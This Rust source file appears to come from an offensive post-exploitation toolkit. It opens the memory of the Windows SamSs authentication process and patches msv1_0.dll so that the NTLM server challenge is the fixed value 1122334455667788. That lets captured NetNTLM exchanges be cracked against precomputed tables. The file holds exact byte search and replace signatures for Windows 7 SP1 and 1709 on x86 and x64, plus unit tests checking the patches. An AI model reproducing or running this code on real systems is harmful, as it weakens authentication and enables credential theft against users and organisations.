//! Fixed NTLM challenge patch
//!
//! Replaces the random server challenge generated in `msv1_0.dll` with the
//! constant `11 22 33 44 55 66 77 88`, which makes captured NetNTLM
//! exchanges replayable against precomputed tables. The generator code
//! moved between releases, so only the two builds with verified byte
//! sequences are accepted.

use crate::arch::Arch;
use crate::commands::Session;
use crate::error::{GraftError, Result};
use crate::memory::space::MemorySpace;
use crate::patch::apply::apply_for_build;
use crate::patch::table::{PatchEntry, PatchTable};
use crate::process::locator::find_service_process;
use crate::process::modules::find_module;
use crate::version::builds;

const AUTH_SERVICE: &str = "SamSs";
const AUTH_PACKAGE: &str = "msv1_0.dll";

const PTRN_WI7_X64: &[u8] = &[
    0x49, 0xBB, 0x4E, 0x54, 0x4C, 0x4D, 0x53, 0x53, 0x50, 0x00, 0x48, 0xB8, 0x06, 0x01, 0xB1,
    0x1D, 0x00, 0x00, 0x00, 0x0F, 0x48, 0x8D, 0x4E, 0x18, 0x8B, 0xD3, 0xC7, 0x46, 0x08, 0x02,
    0x00, 0x00, 0x00, 0x4C, 0x89, 0x1E, 0x48, 0x89, 0x46, 0x30, 0xE8,
];
const PATC_WI7_X64: &[u8] = &[
    0xC7, 0x46, 0x08, 0x02, 0x00, 0x00, 0x00, 0x4C, 0x89, 0x1E, 0x48, 0x89, 0x46, 0x30, 0x48,
    0xB8, 0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x77, 0x88, 0x48, 0x89, 0x46, 0x18, 0x90, 0x90,
    0x90, 0x90, 0x90,
];
const PTRN_1709_X64: &[u8] = &[
    0x48, 0xB8, 0x0A, 0x00, 0xAB, 0x3F, 0x00, 0x00, 0x00, 0x0F, 0xBA, 0x08, 0x00, 0x00, 0x00,
    0x48, 0x89, 0x47, 0x30, 0xFF, 0x15,
];
const PATC_1709_X64: &[u8] = &[
    0x48, 0xB8, 0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x77, 0x88, 0x48, 0x89, 0x47, 0x18,
];

const CHALLENGE_X64: PatchTable = PatchTable {
    context: "msv1_0 server challenge",
    entries: &[
        PatchEntry {
            min_build: builds::WIN_7,
            search: PTRN_WI7_X64,
            replace: PATC_WI7_X64,
            patch_offset: 20,
            aux_offset: 0,
        },
        PatchEntry {
            min_build: builds::WIN_10_1709,
            search: PTRN_1709_X64,
            replace: PATC_1709_X64,
            patch_offset: 19,
            aux_offset: 0,
        },
    ],
};

const PTRN_WI7_X86: &[u8] = &[
    0xC7, 0x43, 0x30, 0x06, 0x01, 0xB1, 0x1D, 0xC7, 0x43, 0x34, 0x00, 0x00, 0x00, 0x0F, 0xE8,
];
const PATC_WI7_X86: &[u8] = &[
    0x58, 0x58, 0xC7, 0x43, 0x18, 0x11, 0x22, 0x33, 0x44, 0xC7, 0x43, 0x1C, 0x55, 0x66, 0x77,
    0x88,
];
const PTRN_1709_X86: &[u8] = &[
    0x8D, 0x43, 0x18, 0x6A, 0x08, 0x50, 0xC7, 0x43, 0x08, 0x02, 0x00, 0x00, 0x00, 0xC7, 0x43,
    0x30, 0x0A, 0x00, 0xAB, 0x3F, 0xC7, 0x43, 0x34, 0x00, 0x00, 0x00, 0x0F, 0xFF, 0x15,
];
const PATC_1709_X86: &[u8] = &[
    0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0xC7, 0x43, 0x08, 0x02, 0x00, 0x00, 0x00, 0xC7, 0x43,
    0x30, 0x0A, 0x00, 0xAB, 0x3F, 0xC7, 0x43, 0x34, 0x00, 0x00, 0x00, 0x0F, 0xC7, 0x43, 0x18,
    0x11, 0x22, 0x33, 0x44, 0xC7, 0x43, 0x1C, 0x55, 0x66, 0x77, 0x88,
];

const CHALLENGE_X86: PatchTable = PatchTable {
    context: "msv1_0 server challenge",
    entries: &[
        PatchEntry {
            min_build: builds::WIN_7,
            search: PTRN_WI7_X86,
            replace: PATC_WI7_X86,
            patch_offset: 14,
            aux_offset: 0,
        },
        PatchEntry {
            min_build: builds::WIN_10_1709,
            search: PTRN_1709_X86,
            replace: PATC_1709_X86,
            patch_offset: 0,
            aux_offset: 0,
        },
    ],
};

fn table(arch: Arch) -> &'static PatchTable {
    match arch {
        Arch::X86 => &CHALLENGE_X86,
        Arch::X64 => &CHALLENGE_X64,
    }
}

/// patch the server challenge generator; returns the patched address
///
/// the signatures were only ever validated against 7 SP1 and 1709, so any
/// other build is refused outright rather than risking a near-miss patch
/// in the authentication service
pub fn patch_challenge(session: &Session) -> Result<usize> {
    if session.build != builds::WIN_7_SP1 && session.build != builds::WIN_10_1709 {
        return Err(GraftError::UnsupportedBuild {
            build: session.build,
        });
    }
    let pid = find_service_process(AUTH_SERVICE)?;
    let space = MemorySpace::open_remote(pid)?;
    let module = find_module(pid, AUTH_PACKAGE)?;

    let address = apply_for_build(
        space.range(module.base, module.size),
        table(session.arch),
        session.build,
    )?;
    tracing::info!(pid, address, "server challenge fixed to 1122334455667788");
    Ok(address)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_rejects_unverified_builds() {
        for build in [builds::WIN_7, builds::WIN_8, builds::WIN_10_1803] {
            let s = Session::with(build, Arch::X64);
            assert!(matches!(
                patch_challenge(&s),
                Err(GraftError::UnsupportedBuild { .. })
            ));
        }
    }

    #[test]
    fn test_table_selection_per_gated_build() {
        let e = CHALLENGE_X64.select(builds::WIN_7_SP1).unwrap();
        assert_eq!(e.search, PTRN_WI7_X64);
        assert_eq!(e.patch_offset, 20);

        let e = CHALLENGE_X64.select(builds::WIN_10_1709).unwrap();
        assert_eq!(e.search, PTRN_1709_X64);
        assert_eq!(e.patch_offset, 19);
    }

    #[test]
    fn test_patches_embed_fixed_challenge() {
        let challenge = [0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x77, 0x88];
        for patc in [PATC_WI7_X64, PATC_1709_X64] {
            assert!(patc.windows(8).any(|w| w == challenge));
        }
        // x86 variants split the constant across two dword stores
        for patc in [PATC_WI7_X86, PATC_1709_X86] {
            assert!(patc.windows(4).any(|w| w == [0x11, 0x22, 0x33, 0x44]));
            assert!(patc.windows(4).any(|w| w == [0x55, 0x66, 0x77, 0x88]));
        }
    }
}
